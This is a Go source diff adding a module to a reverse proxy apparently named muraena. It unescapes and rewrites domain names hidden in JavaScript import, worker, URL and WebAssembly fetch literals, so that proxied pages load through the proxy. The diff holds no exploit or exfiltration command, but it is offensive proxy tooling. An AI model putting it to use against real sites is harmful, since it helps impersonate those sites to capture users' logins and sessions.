@@ -0,0 +1,144 @@
+package proxy
+
+import (
+	"regexp"
+	"strconv"
+	"strings"
+	"unicode/utf8"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// moduleURL matches the URL literals loaded at runtime by the scripts: the dynamic imports, the workers,
+// the module-relative URLs and the WebAssembly streaming fetches.
+// The literal is captured by quote: double, single or a template without substitutions.
+var moduleURL = regexp.MustCompile(`(\bimport|\bnew\s+(?:Shared)?Worker|\bnew\s+URL|\bimportScripts|` +
+	`\bWebAssembly\s*\.\s*(?:instantiate|compile)Streaming\s*\(\s*fetch)\s*\(\s*` +
+	"(?:\"((?:\\\\.|[^\\\\\"\\n])*)\"|'((?:\\\\.|[^\\\\'\\n])*)'|`((?:\\\\.|[^\\\\`$])*)`)")
+
+// moduleURLs rewrites the URL literals of the runtime loaded modules, workers and WebAssembly binaries,
+// whose escape sequences, i.e. https:\/\/cdn\u002etarget\u002etld, hide the origins from the string replacements
+type moduleURLs struct{}
+
+// modules rewrites the URL literals of the runtime loaded modules, nil if disabled
+var modules *moduleURLs
+
+// newModuleURLs returns the module URLs stage defined in the configuration, nil if disabled
+func newModuleURLs(sess *session.Session) *moduleURLs {
+	if !sess.Config.Transform.Modules.Enabled {
+		return nil
+	}
+	return &moduleURLs{}
+}
+
+// isScript tells if the content type can carry script code, either a script or an HTML page with inline scripts
+func isScript(contentType string) bool {
+	contentType = strings.ToLower(contentType)
+	return strings.Contains(contentType, "javascript") || strings.Contains(contentType, "ecmascript") ||
+		strings.Contains(contentType, "html")
+}
+
+// Rewrite unescapes the URL literals referring to any of the domains, transforms them
+// and writes them back as plain literals with their original quotes
+func (m *moduleURLs) Rewrite(input string, domains []string, transform func(string) string) string {
+	if m == nil {
+		return input
+	}
+
+	return moduleURL.ReplaceAllStringFunc(input, func(call string) string {
+		groups := moduleURL.FindStringSubmatchIndex(call)
+
+		quote, start, end := byte('"'), groups[4], groups[5]
+		switch {
+		case groups[6] >= 0:
+			quote, start, end = '\'', groups[6], groups[7]
+		case groups[8] >= 0:
+			quote, start, end = '`', groups[8], groups[9]
+		}
+
+		literal := call[start:end]
+		if !strings.Contains(literal, `\`) {
+			// plain literals are already rewritten by the string replacements
+			return call
+		}
+
+		value, ok := unescapeScriptString(literal)
+		if !ok || !containsAny(value, domains) {
+			return call
+		}
+
+		transformed := transform(value)
+		if transformed == value {
+			return call
+		}
+
+		return call[:start] + escapeScriptString(transformed, quote) + call[end:]
+	})
+}
+
+// unescapeScriptString decodes the escape sequences of a JavaScript string literal usually found in URLs,
+// returning false for any other sequence or control character
+func unescapeScriptString(literal string) (string, bool) {
+	var b strings.Builder
+	for i := 0; i < len(literal); i++ {
+		c := literal[i]
+		if c != '\\' {
+			b.WriteByte(c)
+			continue
+		}
+
+		if i+1 == len(literal) {
+			return "", false
+		}
+		i++
+
+		switch literal[i] {
+		case '/', '\\', '"', '\'', '`', '.', '-', ':':
+			b.WriteByte(literal[i])
+		case 'x':
+			if i+2 >= len(literal) {
+				return "", false
+			}
+			r, err := strconv.ParseUint(literal[i+1:i+3], 16, 8)
+			if err != nil || r < 0x20 {
+				return "", false
+			}
+			b.WriteRune(rune(r))
+			i += 2
+		case 'u':
+			hex := ""
+			if i+1 < len(literal) && literal[i+1] == '{' {
+				closing := strings.IndexByte(literal[i:], '}')
+				if closing < 0 {
+					return "", false
+				}
+				hex = literal[i+2 : i+closing]
+				i += closing
+			} else {
+				if i+4 >= len(literal) {
+					return "", false
+				}
+				hex = literal[i+1 : i+5]
+				i += 4
+			}
+			r, err := strconv.ParseUint(hex, 16, 32)
+			if err != nil || r < 0x20 || !utf8.ValidRune(rune(r)) {
+				return "", false
+			}
+			b.WriteRune(rune(r))
+		default:
+			return "", false
+		}
+	}
+
+	return b.String(), true
+}
+
+// escapeScriptString escapes the backslashes and the quotes of the value, as a literal enclosed by the quote
+func escapeScriptString(value string, quote byte) string {
+	value = strings.ReplaceAll(value, `\`, `\\`)
+	if quote == '`' {
+		value = strings.ReplaceAll(value, "${", `\${`)
+	}
+	return strings.ReplaceAll(value, string(quote), `\`+string(quote))
+}